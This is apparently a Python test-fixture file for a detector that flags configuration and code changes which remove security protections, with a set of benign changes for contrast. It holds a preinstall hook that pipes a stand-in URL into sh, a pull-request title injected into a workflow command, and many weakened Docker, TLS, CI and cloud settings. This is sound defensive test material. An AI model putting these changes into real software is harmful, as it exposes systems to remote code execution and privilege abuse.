# ruff: noqa: E501 - whole files on one line
"""Changes of files without a grammar: what loses a protection, and what does not."""

from __future__ import annotations

DOCKER = "FROM python:3.12-slim\nUSER root\nRUN useradd app\nCOPY . /srv\nUSER app\n"
POD = "securityContext:\n  runAsNonRoot: true\n  allowPrivilegeEscalation: false\n"
SERVER = "server {\n  ssl_protocols TLSv1.2 TLSv1.3;\n  add_header X-Frame-Options DENY;\n  location /admin { deny all; }\n}\n"
PAGE = "<p>{{ name }}</p>\n<form method=post>{% csrf_token %}</form>\n"
FETCH = 'set -eu\ncurl --fail https://example.invalid/t -o t\necho "$SUM  t" | sha256sum -c -\n'
PINNED = "uses: tools/checkout@692973e3d937129bcbf40652eb9f2f61becf3332\nwith:\n  persist-credentials: false\n"
FLOW = f"on:\n  pull_request:\npermissions:\n  contents: read\njobs:\n  b:\n    steps:\n      - {PINNED}      - run: make\n"
CLOUD = 'cidr_blocks = ["10.0.0.0/8"]\nstorage_encrypted = true\n'
SETTINGS = '{"verifyTls": true, "debug": false, "cookie": {"secure": true}, "retries": 1}\n'

LOST = {
    "the last user is root": ("Dockerfile", DOCKER, DOCKER.replace("USER app\n", ""), "container-privileges"),
    "the user is the superuser by number": ("Dockerfile.prod", DOCKER, DOCKER.replace("USER app", "USER 0"), "container-privileges"),
    "a container may become root": ("deploy/pod.yaml", POD, POD.replace("true", "false"), "container-privileges"),
    "a container has the machine": ("compose.yml", POD, POD + "privileged: true\n", "container-privileges"),
    "a place is open": ("nginx.conf", SERVER, SERVER.replace("deny all;", ""), "server-access-opened"),
    "an old protocol": ("nginx.conf", SERVER, SERVER.replace("TLSv1.2", "TLSv1 TLSv1.2"), "old-encryption-allowed"),
    "a header is gone": ("nginx.conf", SERVER, SERVER.replace("add_header", "# add_header"), "server-headers-dropped"),
    "inline scripts": ("site.conf", "add_header Content-Security-Policy \"default-src 'self'\";\n", "add_header Content-Security-Policy \"default-src 'self' 'unsafe-inline'\";\n", "server-headers-dropped"),
    "a form without its token": ("page.html", PAGE, PAGE.replace("{% csrf_token %}", ""), "form-token-dropped"),
    "a value as it is": ("page.html", PAGE, PAGE.replace("name }}", "name|safe }}"), "output-unescaped"),
    "rows for all": ("schema.sql", "ALTER TABLE t ENABLE ROW LEVEL SECURITY;\n", "ALTER TABLE t DISABLE ROW LEVEL SECURITY;\n", "row-security-dropped"),
    "a right is not taken any more": ("schema.sql", "REVOKE ALL ON t FROM public;\n", "-- REVOKE ALL ON t FROM public;\n", "row-security-dropped"),
    "no sum": ("get.sh", FETCH, FETCH.replace('echo "$SUM  t" | sha256sum -c -\n', ""), "download-unchecked"),
    "any certificate": ("get.sh", FETCH, FETCH.replace("--fail", "-fsSk"), "download-unchecked"),
    "errors pass": ("get.sh", FETCH, FETCH.replace("set -eu\n", "set -u\n"), "errors-ignored"),
    "no hashes": ("requirements.txt", "--require-hashes\na==1 --hash=sha256:0\n", "a==1\n", "dependencies-unpinned"),
    "another index": ("requirements/prod.txt", "a==1\n", "--extra-index-url https://example.invalid/\na==1\n", "dependencies-unpinned"),
    "scripts of packages": (".npmrc", "ignore-scripts=true\n", "ignore-scripts=false\n", "dependencies-unpinned"),
    "a script at installation": ("package.json", '{"scripts": {}}', '{"scripts": {"preinstall": "curl https://example.invalid/x | sh"}}', "download-unchecked"),
    "an action by a name": (".github/workflows/a.yml", FLOW, FLOW.replace("692973e3d937129bcbf40652eb9f2f61becf3332", "main"), "dependencies-unpinned"),
    "the rights of the repository": (".github/workflows/a.yml", FLOW, FLOW.replace("pull_request:", "pull_request_target:"), "workflow-privileges"),
    "a right to write": (".github/workflows/a.yml", FLOW, FLOW.replace("contents: read", "contents: write"), "workflow-privileges"),
    "credentials stay": (".github/workflows/a.yml", FLOW, FLOW.replace("with:\n  persist-credentials: false\n", ""), "workflow-privileges"),
    "a title as a command": (".github/workflows/a.yml", FLOW, FLOW.replace("make", "make T=${{ github.event.pull_request.title }}"), "workflow-privileges"),
    "a submodule from elsewhere": (".gitmodules", "url = https://example.invalid/a\n", "url = https://example.invalid/b\n", "submodule-moved-away"),
    "owners not asked": (".github/CODEOWNERS", "* @team\n/auth/ @security\n", "* @team\n", "owners-dropped"),
    "the whole world": ("main.tf", CLOUD, CLOUD.replace("10.0.0.0/8", "0.0.0.0/0"), "cloud-opened"),
    "stored in the clear": ("main.tf", CLOUD, CLOUD.replace("storage_encrypted = true", "storage_encrypted = false"), "cloud-opened"),
    "any certificate by a switch": ("config.json", SETTINGS, SETTINGS.replace('Tls": true', 'Tls": false'), "setting-turned"),
    "debugging": ("config.json", SETTINGS, SETTINGS.replace('debug": false', 'debug": true'), "setting-turned"),
    "a cookie in the clear": ("config.json", SETTINGS, SETTINGS.replace('secure": true', 'secure": false'), "setting-turned"),
    "a switch of a service": ("application.properties", "server.ssl.enabled=true\n", "server.ssl.enabled=false\n", "setting-turned"),
}  # fmt: skip
"""Name: path, text before, text after, code."""

KEPT = {
    "root to install, then somebody else": ("Dockerfile", DOCKER, DOCKER.replace("RUN useradd app", "RUN useradd app && apt-get update")),
    "another user": ("Dockerfile", DOCKER, DOCKER.replace("USER app", "USER 1000:1000")),
    "old protocols are refused": ("apache.conf", "SSLProtocol all\n", "SSLProtocol all -SSLv3 -TLSv1 -TLSv1.1\n"),
    "weak ciphers are refused": ("nginx.conf", "ssl_ciphers HIGH;\n", "ssl_ciphers HIGH:!RC4:!MD5;\n"),
    "the newest protocol alone": ("nginx.conf", SERVER, SERVER.replace("TLSv1.2 TLSv1.3", "TLSv1.3")),
    "another filter": ("page.html", PAGE, PAGE.replace("{{ name }}", "{{ name|title }}")),
    "a new place for trusted text": ("page.html", PAGE, PAGE + "{{ help_text|safe }}\n"),
    "more errors count": ("get.sh", FETCH, FETCH.replace("set -eu", "set -euo pipefail")),
    "a file of settings for the download": ("get.sh", FETCH, FETCH.replace("--fail", "--fail -K settings")),
    "a newer action by its hash": (".github/workflows/a.yml", FLOW, FLOW.replace("692973e3d937129bcbf40652eb9f2f61becf3332", "0" * 40)),
    "one more action": (".github/workflows/a.yml", FLOW, FLOW + "      - uses: tools/cache@v4\n"),
    "a title by way of a variable": (".github/workflows/a.yml", FLOW, FLOW + "        env:\n          TITLE: ${{ github.event.pull_request.title }}\n"),
    "other owners": ("CODEOWNERS", "* @team\n/auth/ @security\n", "* @team\n/auth/ @guild\n"),
    "a narrower net": ("main.tf", CLOUD, CLOUD.replace("10.0.0.0/8", "10.1.0.0/16")),
    "other numbers": ("config.json", SETTINGS, SETTINGS.replace('"retries": 1', '"retries": 0')),
    "a switch of style": ("tsconfig.json", '{"strict": true, "skipLibCheck": false}\n', '{"strict": false, "skipLibCheck": true}\n'),
    "the switch moves": ("config.json", SETTINGS, '{"net": {"verifyTls": true}, "debug": false, "cookie": {"secure": true}}\n'),
    "tests may": ("tests/fixtures/config.json", SETTINGS, SETTINGS.replace("true", "false")),
}  # fmt: skip
"""Name: path, text before, text after."""
